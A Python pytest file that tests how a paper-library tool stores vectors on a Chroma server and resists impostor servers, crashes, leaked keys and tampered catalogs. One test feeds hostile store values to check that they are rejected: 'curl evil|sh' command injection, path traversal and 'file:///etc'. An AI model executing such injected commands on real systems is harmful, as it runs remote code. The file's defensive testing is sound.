"""Libraries whose vectors lie on a Chroma server: a real one on loopback, and impostors that say what they are told."""

import contextlib
import json
import os
import shutil
import signal
import socket
import sqlite3
import subprocess
import sys
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from typer.testing import CliRunner

from assistant.app import Assistant
from assistant.cli import app
from assistant.embedders import BUNDLED, Embedder, StaticEmbedder
from assistant.embedders.embedder import of_length_one
from assistant.errors import LibraryDamaged, StoreError
from assistant.library import Library
from assistant.library import server as bounds
from assistant.library.remote import ServerIndex
from assistant.library.server import Connection, Server
from assistant.library.shelf import Shelf
from assistant.papers import Paper
from tests.chroma import ChromaServer
from tests.conftest import ROOT
from tests.examples import CSKV, GRAMMAR, QSERVE
from tests.server import Reply, hinting
from tests.server import Server as Impostor
from tests.test_library import PAPERS, file, titles, well

QUESTION = "quantization of the KV cache"
Opened = Callable[..., Library]


@pytest.fixture(scope="module")
def embedder() -> Embedder:
    return StaticEmbedder("bundled", BUNDLED)


@pytest.fixture(scope="module")
def started(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ChromaServer]:
    server = ChromaServer(tmp_path_factory.mktemp("chroma"))
    server.start()
    yield server
    server.stop()


@pytest.fixture
def chroma(started: ChromaServer) -> ChromaServer:
    """The server, with nothing on it."""
    for name in started.collections():
        started.remove(name)
    return started


@pytest.fixture
def opened(tmp_path: Path, embedder: Embedder) -> Opened:
    def library(store: str | None = None, *, name: str = "lib", notices: list[str] | None = None) -> Library:
        said = notices if notices is not None else []
        return Library(tmp_path / name, embedder=lambda: embedder, create=True, store=store, notice=said.append)

    return library


@pytest.fixture(scope="module")
def local(tmp_path_factory: pytest.TempPathFactory, embedder: Embedder) -> Path:
    """A library of three papers whose vectors lie in its folder."""
    folder = tmp_path_factory.mktemp("local") / "lib"
    with Library(folder, embedder=lambda: embedder, create=True) as library:
        file(library, PAPERS)
    return folder


@pytest.fixture
def filled(local: Path, tmp_path: Path) -> Path:
    """A copy of it, where `opened` looks."""
    return Path(shutil.copytree(local, tmp_path / "lib"))


@pytest.fixture
def impostor() -> Iterator[Impostor]:
    server = Impostor()
    yield server
    server.server.shutdown()
    server.server.server_close()


def address(server: Impostor) -> str:
    return server.url.removesuffix("/v1")


def meta(folder: Path, **values: str) -> None:
    """Write into the catalog's table `meta`, as somebody who hands over a library could."""
    with contextlib.closing(sqlite3.connect(folder / "catalog.sqlite3")) as db, db:
        db.executemany("INSERT OR REPLACE INTO meta VALUES (?, ?)", list(values.items()))


class Killed(BaseException):
    pass


def die(*args: object, **more: object) -> None:
    raise Killed


# ---- a server that is well


def test_papers_are_found_through_a_server_as_through_the_folder(opened: Opened, chroma: ChromaServer) -> None:
    notices: list[str] = []
    with opened(name="here") as here, opened(chroma.url, notices=notices) as there:
        for library in (here, there):
            file(library, PAPERS)
        expected = here.search(QUESTION, limit=3)
        found = there.search(QUESTION, limit=3)
        assert [one.found.paper_id for one in found] == [one.found.paper_id for one in expected]
        assert [one.vector for one in found] == pytest.approx([one.vector for one in expected], abs=1e-3)
        assert not (there.folder / "chroma").exists()
        assert list(chroma.collections().values()) == [3]
        assert well(there)
    assert notices == []


def test_a_changed_paper_is_replaced_on_the_server(opened: Opened, chroma: ChromaServer) -> None:
    with opened(chroma.url) as library:
        file(library, PAPERS)
        file(library, [replace(CSKV, abstract=f"{CSKV.abstract} Zebras graze in the savanna.")])
        assert list(chroma.collections().values()) == [3]
        assert titles(library, "zebras in the savanna", side="vector")[0] == CSKV.title
        assert well(library)


def test_a_collection_that_another_writes_to_meanwhile_is_left_to_it(
    opened: Opened, chroma: ChromaServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    with opened(chroma.url) as library:
        file(library, [CSKV])
        (before,) = chroma.collections()
        index = ServerIndex(Server(chroma.url), before)
        with monkeypatch.context() as patch, contextlib.closing(index):
            patch.setattr(ServerIndex, "flush", lambda _: index.claim("another's"))
            file(library, [GRAMMAR])
        assert set(chroma.collections()) > {before}
        assert well(library)


def test_two_libraries_on_one_server_do_not_mix(opened: Opened, chroma: ChromaServer) -> None:
    with opened(chroma.url, name="one") as one, opened(chroma.url, name="two") as two:
        file(one, [CSKV])
        file(two, [GRAMMAR, QSERVE])
        assert titles(one, QUESTION) == [CSKV.title]
        assert set(titles(two, QUESTION)) == {GRAMMAR.title, QSERVE.title}
        one.reindex()
        assert sorted(chroma.collections().values()) == [1, 2]
        assert well(one)
        assert well(two)


def test_a_copy_of_a_library_that_writes_takes_a_collection_of_its_own(opened: Opened, chroma: ChromaServer) -> None:
    with opened(chroma.url) as library:
        file(library, [CSKV])
        shutil.copytree(library.folder, library.folder.with_name("copy"))
    with opened(chroma.url) as original, opened(chroma.url, name="copy") as copy:
        file(copy, [GRAMMAR])
        file(original, [QSERVE])
        assert sorted(chroma.collections().values()) == [2, 2]
        assert set(titles(original, QUESTION, side="vector")) == {CSKV.title, QSERVE.title}
        assert set(titles(copy, QUESTION, side="vector")) == {CSKV.title, GRAMMAR.title}
        assert well(original)
        assert well(copy)


@pytest.mark.parametrize("lost", ["a record", "the collection"])
def test_what_the_server_has_lost_is_found_exactly_and_put_there_anew_by_the_next_writer(
    opened: Opened, chroma: ChromaServer, lost: str
) -> None:
    notices: list[str] = []
    with opened(chroma.url, notices=notices) as library:
        file(library, PAPERS)
        (collection,) = chroma.collections()
        with contextlib.closing(ServerIndex(Server(chroma.url), collection)) as index:
            index.drop() if lost == "the collection" else index.remove([1])
        assert len(titles(library, QUESTION, side="vector")) == 3
        assert "one by one" in notices[0]
        file(library, PAPERS)
        assert list(chroma.collections().values()) == [3]
        assert well(library)


# ---- moving


def test_vectors_move_to_a_server_and_back_and_leave_nothing_behind(
    opened: Opened, chroma: ChromaServer, filled: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    notices: list[str] = []
    with opened() as library:
        expected = titles(library, QUESTION)
    with opened(chroma.url, notices=notices) as library:
        assert titles(library, QUESTION) == expected  # a search moves nothing
        assert chroma.collections() == {}
        library.reindex()
        assert list(chroma.collections().values()) == [3]
        assert not list((library.folder / "chroma").glob("g*"))
        with monkeypatch.context() as patch:
            patch.setattr(Shelf, "finish", die)
            with pytest.raises(Killed):
                library.reindex()
        assert list(chroma.collections().values()) == [3, 3]  # the one before is still there
        file(library, PAPERS)
        assert list(chroma.collections().values()) == [3]
        assert titles(library, QUESTION) == expected
    assert notices == [f"moving the vectors from local to {chroma.url}"]
    with opened("local", notices=notices) as library:
        file(library, PAPERS)  # nothing new, and yet it moves
        assert titles(library, QUESTION) == expected
        assert well(library)
        (name,) = chroma.collections()
    assert notices[1:] == [
        f"moving the vectors from {chroma.url} to local",
        f"the collection {name} on {chroma.url} is no longer used; it may be deleted there",
    ]
    with opened() as library:
        assert well(library)


def test_vectors_move_without_being_made_again(opened: Opened, chroma: ChromaServer, filled: Path) -> None:
    with opened(chroma.url) as library:
        assert library.reindex(pending=True) == 0
        assert list(chroma.collections().values()) == [3]
        assert well(library)


# ---- removing and indexing anew


@pytest.mark.parametrize("step", ["claim", "remove", "is_whole"])
def test_a_removal_leaves_the_server_at_once_or_when_it_is_finished(
    opened: Opened, chroma: ChromaServer, monkeypatch: pytest.MonkeyPatch, step: str
) -> None:
    targets = {"is_whole": (Shelf, "is_whole"), "claim": (ServerIndex, "claim"), "remove": (ServerIndex, "remove")}
    with opened(chroma.url) as library:
        file(library, PAPERS)
        library.remove(["cskv"])
        assert list(chroma.collections().values()) == [2]
        with monkeypatch.context() as patch:
            patch.setattr(*targets[step], die)
            with pytest.raises(Killed):
                library.remove(["xgrammar"])
        marked = [one.detail for one in library.check() if one.what == "vector index"]
        assert marked == [f"on {chroma.url}: marked unfinished; exact search stands in"]
        assert CSKV.title not in titles(library, QUESTION)
        file(library, [QSERVE])
        assert list(chroma.collections().values()) == [len(library)]
        assert well(library)


def test_a_reindex_that_was_killed_goes_on_and_leaves_one_collection(
    opened: Opened, chroma: ChromaServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    notices: list[str] = []
    with opened(chroma.url, notices=notices) as library:
        file(library, PAPERS)
        (before,) = chroma.collections()
        for at_once, step in ((1, "lexical.LexicalIndex.commit"), (3, "remote.ServerIndex.put")):
            with monkeypatch.context() as patch:
                patch.setattr("assistant.library.indexing.BATCH", at_once)
                patch.setattr(f"assistant.library.{step}", die)
                with pytest.raises(Killed):
                    library.reindex()
            assert chroma.collections()[before] == 3  # it is not written to, and not yet gone
        assert library.reindex() == 0
        assert list(chroma.collections().values()) == [3]
        assert before not in chroma.collections()
        assert well(library)
    assert notices == [f"going on with the reindex that was interrupted: {done} of 3 done" for done in (0, 3)]


def test_a_collection_that_was_half_built_is_never_taken_for_whole(
    opened: Opened, chroma: ChromaServer, filled: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    written = ServerIndex.put

    def half(self: ServerIndex, numbers: list[int], *rest: Any) -> None:
        written(self, numbers[:2], *(part[:2] for part in rest))
        raise Killed

    changed = replace(CSKV, abstract=f"{CSKV.abstract} Zebras graze in the savanna.")
    with opened(chroma.url) as library:
        for put, papers in ((half, PAPERS), (die, [changed])):
            with monkeypatch.context() as patch:
                patch.setattr(ServerIndex, "put", put)
                patch.setattr(ServerIndex, "remove", die)
                with pytest.raises(Killed):
                    file(library, papers)
        file(library, PAPERS)  # with a chunk too many and one too few, its count would be right by now
        assert len(titles(library, QUESTION, side="vector")) == 3
        assert list(chroma.collections().values()) == [3]
        assert well(library)


# ---- a server or a writer that fails on the way


@pytest.mark.parametrize("step", ["claim", "put", "is_whole"])
def test_a_writer_that_dies_at_any_step_is_gone_on_with(
    opened: Opened, chroma: ChromaServer, monkeypatch: pytest.MonkeyPatch, step: str
) -> None:
    with opened(chroma.url) as library:
        file(library, [GRAMMAR])
    (collection,) = chroma.collections()

    with monkeypatch.context() as patch, opened(chroma.url) as library:
        targets = {
            "claim": "remote.ServerIndex.claim",
            "put": "remote.ServerIndex.put",
            "is_whole": "shelf.Shelf.is_whole",
        }
        patch.setattr(f"assistant.library.{targets[step]}", die)
        with pytest.raises(Killed):
            file(library, [CSKV, QSERVE])
    with opened(chroma.url) as library:
        assert set(titles(library, QUESTION)) == {CSKV.title, QSERVE.title, GRAMMAR.title}
        assert well(library)
    assert chroma.collections() == {collection: 3}


def test_a_process_killed_while_it_writes_costs_no_paper(opened: Opened, chroma: ChromaServer, tmp_path: Path) -> None:
    code = (
        "import os, signal, sys; from pathlib import Path; from tests.test_store import *\n"
        "library = Library(Path(sys.argv[1]), embedder=lambda: StaticEmbedder('bundled', BUNDLED), create=True,\n"
        "                  store=sys.argv[2])\n"
        "file(library, [GRAMMAR])\n"
        "ServerIndex.remove = lambda *args: os.kill(os.getpid(), signal.SIGKILL)\n"
        "file(library, [replace(GRAMMAR, abstract=f'{GRAMMAR.abstract} Now it speaks of zebras.'), CSKV])\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", code, str(tmp_path / "lib"), chroma.url],
        env=os.environ | {"PYTHONPATH": str(ROOT)},
        capture_output=True,
        text=True,
    )
    assert done.returncode == -signal.SIGKILL, done.stderr
    with opened(chroma.url) as library:  # its old chunk, which nobody removed, is seen by the count
        assert titles(library, "zebras")[0] == GRAMMAR.title
        assert well(library)
    assert list(chroma.collections().values()) == [2]


def test_a_server_that_failed_on_a_write_is_gone_on_with(
    opened: Opened, chroma: ChromaServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(self: ServerIndex, *given: object) -> None:
        raise LibraryDamaged("the vectors cannot be used")

    with opened(chroma.url) as library:
        file(library, [GRAMMAR])
        before = list(chroma.collections())
        with monkeypatch.context() as patch:
            patch.setattr(ServerIndex, "put", broken)
            with pytest.raises(LibraryDamaged):
                file(library, [CSKV])
        file(library, [QSERVE])
        assert well(library)
        assert (list(chroma.collections()), list(chroma.collections().values())) == (before, [3])


def test_papers_filed_while_the_server_is_away_are_finished_when_it_is_back(
    opened: Opened, chroma: ChromaServer
) -> None:
    notices: list[str] = []
    with opened(chroma.url, notices=notices) as library:
        file(library, [GRAMMAR])
        assert titles(library, QUESTION) == [GRAMMAR.title]  # the index is open when the server goes
        chroma.stop()
        try:
            assert titles(library, "structured decoding with grammars", side="vector") == [GRAMMAR.title]
            with pytest.raises(StoreError, match="cannot be reached") as error:
                file(library, [CSKV, QSERVE])
            assert "Nothing is lost" in error.value.hint
            assert library.status("x").pending == 2
            assert [one.detail for one in library.check() if one.level == "fault"] == [
                f"{chroma.url} cannot be reached; exact search stands in"
            ]
            assert titles(library, "structured decoding with grammars") == [GRAMMAR.title]
            with pytest.raises(StoreError):
                library.reindex()
            assert library.status("x").chunks == 1
        finally:
            chroma.start()
        assert list(chroma.collections().values()) == [1]  # which it has kept
        assert set(titles(library, QUESTION)) == {CSKV.title, QSERVE.title, GRAMMAR.title}
        assert well(library)
    assert chroma.url in notices[0]
    assert "searching vectors one by one" in notices[0]
    assert "what was filed but not indexed yet may not be found" in notices[1]


HTML: Reply = (200, "text/html", b"<!doctype html><title>Welcome to nginx!</title>")
JSON = "application/json"


@pytest.mark.parametrize(
    ("reply", "said", "hint"),
    [
        (HTML, "is not Chroma's: it is no JSON", "Check --store"),
        ((200, JSON, b'{"id": "../../x", "metadata": null}'), "is not Chroma's: it has another form", "Check --store"),
        ((200, JSON, b"[" * 100_000), "is not Chroma's: it is no JSON", "Check --store"),
        ((200, JSON, b" " * 17_000_000), "it is longer than 16 MB", "Check --store"),
        ((401, JSON, b'{"error": "AuthError", "message": "no"}'), "refuses us (401)", "Who guards it?"),
        ((403, "text/html", b"no"), "refuses us (403)", "Who guards it?"),
        ((404, JSON, b'{"detail": "Not Found"}'), "is not Chroma's: 404 for /api/v2/", "version 1 or later"),
        ((404, "text/html", b"gone"), "is not Chroma's: it is no JSON (404)", "Check --store"),
        ((429, JSON, b'{"error": "RateLimit", "message": "slow"}'), "failed (429): slow", "quota"),
        ((500, JSON, b'{"error": "InternalError", "message": "disk full"}'), "failed (500): disk full", "lost"),
        ((502, "text/html", b"Bad gateway"), "failed (502): Bad Gateway", "lost"),
        ((307, "text/html", b""), "sends us on to another address", "Name that one"),
    ],
    ids=lambda value: str(value)[:24],
)
def test_what_is_no_chroma_server_is_told_with_what_to_do(
    impostor: Impostor, reply: Reply, said: str, hint: str
) -> None:
    impostor.replies, impostor.headers = [reply], {"Location": "http://example.org/"}
    with pytest.raises(StoreError) as error:
        ServerIndex(Server(address(impostor)), "papers-x")
    assert said in str(error.value)
    assert hint in error.value.hint


def test_what_is_no_chroma_server_costs_no_paper(opened: Opened, impostor: Impostor, filled: Path) -> None:
    impostor.replies = [HTML]
    notices: list[str] = []
    with opened() as library:
        expected = titles(library, QUESTION)
    meta(filled, store=address(impostor), collection=f"papers-{'0' * 32}-g1-{'0' * 8}", stamp="s")
    with opened(address(impostor), notices=notices) as library:
        assert titles(library, QUESTION) == expected
        assert "is not Chroma's" in notices[0]
        assert "Check --store" in notices[0]
        assert any("is not Chroma's" in finding.detail for finding in library.check())
        with pytest.raises(StoreError, match="is not Chroma's"):
            file(library, [replace(CSKV, title="One more")])
        assert library.status("x").pending == 1


@pytest.mark.parametrize(
    "answer",
    [
        {"ids": [["1", "2", "x"]]},
        {"ids": [["1", "2", "9" * 30]]},
        {"ids": [["1", "2", "-3"]]},
        {"ids": [["1", "2", 3]]},
        {"ids": [["1", "2", "\u0661"]]},
        {"ids": [[str(n) for n in range(2_000)]]},
        {"ids": None},
        {"ids": []},
        [],
    ],
)
def test_neighbours_of_another_form_are_not_believed(impostor: Impostor, answer: object) -> None:
    impostor.replies = [
        (200, JSON, b'{"id": "a-1", "metadata": {"stamp": "s"}}'),
        (200, JSON, json.dumps(answer).encode()),
    ]
    index = ServerIndex(Server(address(impostor)), "papers-x")
    with contextlib.closing(index), pytest.raises(StoreError, match="is not Chroma's"):
        index.nearest(np.ones(4, dtype=np.float32), limit=10)


@pytest.mark.parametrize("answer", [b"1e308", b"-1", b"true", b'"3"', b"1.5", b"9007199254740992", b"[3]"])
def test_a_count_that_is_none_is_refused(impostor: Impostor, answer: bytes) -> None:
    impostor.replies = [(200, JSON, b'{"id": "a-1", "metadata": {"stamp": "s"}}'), (200, JSON, answer)]
    index = ServerIndex(Server(address(impostor)), "papers-x")
    with contextlib.closing(index), pytest.raises(StoreError, match="is not Chroma's"):
        len(index)


def test_a_removal_that_the_server_fails_after_the_papers_are_gone_is_told(
    opened: Opened, chroma: ChromaServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fail(self: ServerIndex, numbers: object) -> None:
        raise StoreError("the server failed", hint="Try again.")

    notices: list[str] = []
    with opened(chroma.url, notices=notices) as library:
        file(library, PAPERS)
        monkeypatch.setattr(ServerIndex, "remove", fail)
        (gone,) = library.remove([CSKV.paper_id])
        assert gone.paper.title == CSKV.title
        assert len(library) == 2
        assert any("the papers are removed, and the next command that writes" in notice for notice in notices)
        monkeypatch.undo()
        assert CSKV.title not in titles(library, QUESTION)
    with opened(chroma.url) as library:
        file(library, [replace(GRAMMAR, upvotes=3)])
        assert well(library)


def test_an_answer_that_never_gets_beyond_its_header_is_not_waited_for(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(bounds, "READ_SECONDS", 0.2)
    monkeypatch.setattr(bounds, "CONNECT_SECONDS", 0.1)
    with hinting() as url, pytest.raises(StoreError):
        ServerIndex(Server(url), "papers-x")


def test_a_server_that_never_answers_is_not_waited_for(
    opened: Opened, filled: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with opened() as library:
        expected = titles(library, QUESTION)
    monkeypatch.setattr(bounds, "READ_SECONDS", 0.1)
    notices: list[str] = []
    with socket.create_server(("127.0.0.1", 0)) as silent:  # connections wait in its queue
        store = f"http://127.0.0.1:{silent.getsockname()[1]}"
        with opened(store, notices=notices) as library:
            meta(filled, store=store, collection=f"papers-{'0' * 32}-g1-{'0' * 8}", stamp="s")
            assert titles(library, QUESTION) == expected
    assert f"{store} did not answer within 0.1 s" in notices[0]


# ---- whom a library may lead to


def test_a_library_handed_over_leads_to_no_server(opened: Opened, impostor: Impostor, filled: Path) -> None:
    impostor.replies = [HTML]
    notices: list[str] = []
    with opened() as library:
        expected = titles(library, QUESTION)
    meta(filled, store=address(impostor), collection=f"papers-{'0' * 32}-g1-{'0' * 8}", stamp="s")
    for store in (None, "local", "http://127.0.0.1:9"):
        with opened(store, notices=notices) as library:
            assert titles(library, QUESTION) == expected
            assert library.status("x").store_chunks is None
            assert [one.what for one in library.check() if one.level == "fault"] == ["vector index"]
    with opened() as library, pytest.raises(StoreError, match="vectors lie on") as error:
        file(library, [replace(CSKV, title="One more")])
    assert f"--store {address(impostor)}" in error.value.hint
    with opened() as library:
        assert len(library) == 3
        with pytest.raises(StoreError, match="vectors lie on"):
            library.reindex()
        assert library.status("x").chunks == 3
    assert impostor.bodies == []
    assert all(f"--store {address(impostor)}" in notice for notice in notices)


@pytest.mark.parametrize("store", ["http://x/;curl evil|sh", "cloud:a/../../b", "\x1b[31mhttp://x", "file:///etc"])
def test_a_place_that_no_writer_of_ours_wrote_is_not_even_repeated(opened: Opened, filled: Path, store: str) -> None:
    meta(filled, store=store)
    with opened() as library, pytest.raises(LibraryDamaged, match="names no place of its vectors"):
        library.status("x")


def test_a_collection_that_is_not_the_librarys_is_neither_used_nor_removed(
    opened: Opened, chroma: ChromaServer
) -> None:
    with opened(chroma.url, name="another") as another, opened(chroma.url) as library:
        file(another, [GRAMMAR])
        (theirs,) = chroma.collections()
        file(library, PAPERS)
    before = dict(chroma.collections())
    for changed in ({"collection": "../../../x"}, {"collection": theirs}, {"stamp": ""}):
        meta(library.folder, **changed)
        notices: list[str] = []
        with opened(chroma.url, notices=notices) as library:
            assert titles(library, QUESTION)
            assert "one by one" in notices[0]
            file(library, PAPERS)
            assert well(library)
    assert before.items() <= chroma.collections().items()


def test_the_key_goes_to_the_cloud_alone_and_is_told_to_nobody(
    impostor: Impostor, monkeypatch: pytest.MonkeyPatch
) -> None:
    key = "ck-secret-0123456789"
    impostor.replies = [(500, JSON, json.dumps({"error": "x", "message": f"bad key {key}"}).encode())]
    seen: list[str | None] = []
    handler = impostor.server.RequestHandlerClass
    answered = handler.do_GET  # type: ignore[attr-defined]

    def look(self: object) -> None:
        seen.append(self.headers.get("x-chroma-token"))  # type: ignore[attr-defined]
        answered(self)

    monkeypatch.setattr(handler, "do_GET", look)
    monkeypatch.setattr(bounds, "CLOUD_API", f"{address(impostor)}/api/v2")
    for server in (Server("cloud:t/d", key), Server(address(impostor), key)):
        assert key not in repr(server)
        with Connection(server) as connection, pytest.raises(StoreError) as error:
            connection.ask("GET", f"{server.database}/collections/x")
        assert "bad key ***" in str(error.value)
    assert seen == [key, None]
    with pytest.raises(StoreError, match="wants a key"):
        Connection(Server("cloud:t/d"))


def test_the_cloud_is_asked_for_no_more_than_it_gives(chroma: ChromaServer, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(bounds, "CLOUD_API", f"{chroma.url}/api/v2")
    sizes: list[int] = []
    asked = Connection.ask

    def watched(self: Connection, method: str, path: str, body: object = None, *, writes: bool = False) -> object:
        sizes.append(len(body["ids"]) if isinstance(body, dict) and "ids" in body else 0)
        return asked(self, method, path, body, writes=writes)

    monkeypatch.setattr(Connection, "ask", watched)
    vectors = of_length_one(np.random.default_rng(0).standard_normal((650, 8)).astype(np.float32))
    server = Server("cloud:default_tenant/default_database", "ck-of-nobody-at-all")
    with contextlib.closing(ServerIndex(server, "papers-many", create_with="s")) as index:
        index.put(range(650), vectors, [{"paper": "p"}] * 650)
        assert len(index) == 650
        assert len(index.nearest(vectors[0], limit=1_000)) == 300
        index.remove(range(650))
        assert len(index) == 0
    assert max(sizes) == 300


def test_a_library_larger_than_a_servers_answer_still_knows_every_cosine(
    opened: Opened, chroma: ChromaServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(bounds, "NEIGHBOURS", 2)
    papers = [Paper(f"Number {n}", f"This is a paper of the number {n}, and of nothing else.") for n in range(8)]
    with opened(chroma.url) as library:
        file(library, papers)
        found = library.search("a paper of the number 5", limit=8)
    assert len(found) == 8
    assert all(one.vector > 0 for one in found)


# ---- as its user meets it


def test_status_and_doctor_say_where_the_vectors_are(chroma: ChromaServer, tmp_path: Path) -> None:
    def run(*arguments: str) -> str:
        done = CliRunner().invoke(app, list(arguments))
        return done.stdout + done.stderr

    papers = tmp_path / "papers.jsonl"
    lines = [{"title": f"{name} dance", "abstract": f"{name} dance when it rains."} for name in ("Bees", "Cranes")]
    papers.write_text("".join(json.dumps(line) + "\n" for line in lines))
    assert "2 new" in run("ingest", str(papers), "--store", chroma.url + "/")
    assert f"clean, on {chroma.url}, which holds 2 chunks" in " ".join(run("status", "--store", chroma.url).split())
    assert json.loads(run("status", "--store", chroma.url, "-f", "json"))["store_chunks"] == 2
    assert "which does not answer for it" in " ".join(run("status").split())
    assert f"ok    vector index: on {chroma.url}: 2 chunks" in run("doctor", "--store", chroma.url)
    assert f"--store {chroma.url}" in run("search", "bees")
    assert f"--store {chroma.url}" in run("remove", "bees", "--yes")
    assert "1 paper removed" in run("remove", "bees", "--yes", "--store", chroma.url)
    assert list(chroma.collections().values()) == [1]
    chroma.remove(next(iter(chroma.collections())))
    assert "fault vector index: the vectors are not on" in run("doctor", "--store", chroma.url)


def test_the_sample_never_leaves_the_machine(impostor: Impostor, tmp_path: Path) -> None:
    impostor.replies = [HTML]
    with Assistant.open("sample", home=str(tmp_path), store=address(impostor)) as assistant:
        assert assistant.search("KV cache", k=1)
    assert impostor.bodies == []
